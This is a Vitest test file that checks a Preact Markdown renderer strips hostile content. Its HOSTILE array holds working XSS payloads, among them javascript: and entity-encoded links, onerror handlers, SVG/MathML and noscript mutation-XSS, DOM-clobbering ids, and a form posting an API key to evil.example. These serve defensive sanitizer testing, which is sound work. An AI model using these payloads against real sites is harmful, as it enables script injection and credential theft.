// Hostile Markdown, rendered by the app's Markdown component in real Chromium: what reaches the
// page's DOM runs nothing, styles nothing, submits nothing and links only to the web.
import { h, render } from 'preact';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from './Markdown.tsx';

/** Each case: a name, the text, and what must not be found in its rendering. */
const HOSTILE: [string, string][] = [
  ['a <style> element', 'Report\n\n<style>button { visibility: hidden } .allow::after { content: "Deny" }</style>'],
  ['a <style> inside a paragraph', 'Total <style>*{display:none}</style> due'],
  ['a style attribute', '<div style="position:fixed;inset:0;background:white;z-index:99999">Click Allow</div>'],
  ['a style attribute on inline markup', 'Pay <span style="font-size:200px">now</span>'],
  ["the app's own classes", '<div class="settings modal-overlay">fake dialog</div>'],
  ['a form posting elsewhere', '<form action="https://evil.example/steal" method="post"><input name="key" value="x"><button>Send</button></form>'],
  ['loose form controls', '<input type="password" placeholder="API key"><select><option>a</option></select><textarea>t</textarea><button formaction="https://evil.example">Go</button>'],
  ['a label and fieldset', '<fieldset><legend>Login</legend><label>PIN <output>1</output></label></fieldset>'],
  ['a javascript: link', '[click](javascript:alert(1))'],
  ['an entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['a data: link', '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a relative link into the app', '[settings](./?stack=other&kiosk=1)'],
  ['an inline script', 'Hi <script>window.__pwned = 1</script>'],
  ['an event handler', '<img src="x" onerror="window.__pwned = 2">'],
  ['an event handler in Markdown image syntax', '![x" onerror="window.__pwned=3](https://example.com/a.png)'],
  ['an iframe', '<iframe src="https://evil.example" srcdoc="<script>parent.__pwned=4</script>"></iframe>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a base tag', '<base href="https://evil.example/">'],
  ['a link element', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['an object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">'],
  ['an svg with script', '<svg><script>window.__pwned=5</script><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"/></svg>'],
  ['an svg animation', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">click</text></a></svg>'],
  ['MathML with a link', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>'],
  ['a dialog', '<dialog open>Your session expired. Enter your key.</dialog>'],
  ['ids and names that clobber globals', '<img id="location" name="stackdocs"><a id="defaultView" name="cookie" href="https://example.com">x</a>'],
  ['a popover', '<div popover id="p">over</div>'],
  ['nested html inside Markdown', '> quote <b onclick="window.__pwned=6">bold</b>\n\n* item <i style="color:red">x</i>\n\n`<style>code is text</style>`'],
  ['html in a table cell', '| a | b |\n|---|---|\n| <style>p{}</style> | <input value=1> |'],
  ['a data attribute and contenteditable', '<p data-action="allow" contenteditable>edit me</p>'],
  ['a noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=7>">'],
];

let root: HTMLElement;
afterEach(() => {
  render(null, root);
  root.remove();
});

function rendered(text: string): HTMLElement {
  root = document.createElement('div');
  document.body.append(root);
  render(h(Markdown, { text }), root);
  return root.querySelector('.markdown')!;
}

describe('Markdown', () => {
  it.each(HOSTILE)('%s: runs, styles, submits and clobbers nothing', async (_name, text) => {
    const node = rendered(text);
    await new Promise((done) => setTimeout(done, 20));
    expect(node.querySelectorAll('style, script, link, meta, base, iframe, object, embed, svg, math, form, input, button, select, option, textarea, label, fieldset, legend, output, dialog, noscript').length).toBe(0);
    for (const element of node.querySelectorAll('*')) {
      const names = element.getAttributeNames();
      expect(names.filter((name) => /^on|^(style|class|id|name|popover|contenteditable|formaction|action)$|^data-/.test(name)), element.outerHTML).toEqual([]);
    }
    for (const link of node.querySelectorAll('[href], [src]')) {
      const url = link.getAttribute('href') ?? link.getAttribute('src')!;
      expect(url, link.outerHTML).toMatch(link.tagName === 'IMG' ? /^(https?:|data:image\/)/ : /^(https?:|mailto:)/);
    }
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
    expect((window as unknown as { stackdocs?: unknown }).stackdocs).toBeUndefined();
    expect(document.defaultView).toBe(window);
    // Nothing outside the rendering changed how the page looks.
    expect(getComputedStyle(document.body).display).toBe('block');
  });

  it('keeps what Markdown is for: headings, emphasis, lists, tables, code, images and links', () => {
    const node = rendered('# Title\n\n**bold** _it_\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode <b>\n```\n\n![chart](https://example.com/c.png) [site](https://example.com/p?q=1) [mail](mailto:a@example.com)');
    expect(node.querySelector('h1')?.textContent).toBe('Title');
    expect(node.querySelector('strong')?.textContent).toBe('bold');
    expect(node.querySelector('em')?.textContent).toBe('it');
    expect([...node.querySelectorAll('li')].map((li) => li.textContent?.trim())).toEqual(['\u2611 done', '\u2610 open']);
    expect(node.querySelectorAll('td')).toHaveLength(2);
    expect(node.querySelector('pre code')?.textContent).toBe('code <b>\n');
    expect(node.querySelector('img')?.getAttribute('src')).toBe('https://example.com/c.png');
    const links = [...node.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/p?q=1', 'mailto:a@example.com']);
    // A link opens beside the app, never in place of it.
    expect(links.every((a) => a.target === '_blank' && a.rel === 'noopener noreferrer')).toBe(true);
  });

  it('keeps the text of what it removes, as text', () => {
    const node = rendered('[click](javascript:alert(1)) and <button>Allow</button> <style>x</style>');
    expect(node.querySelector('a[href]')).toBeNull();
    expect(node.textContent).toContain('click');
    expect(node.textContent).toContain('Allow');
  });
});
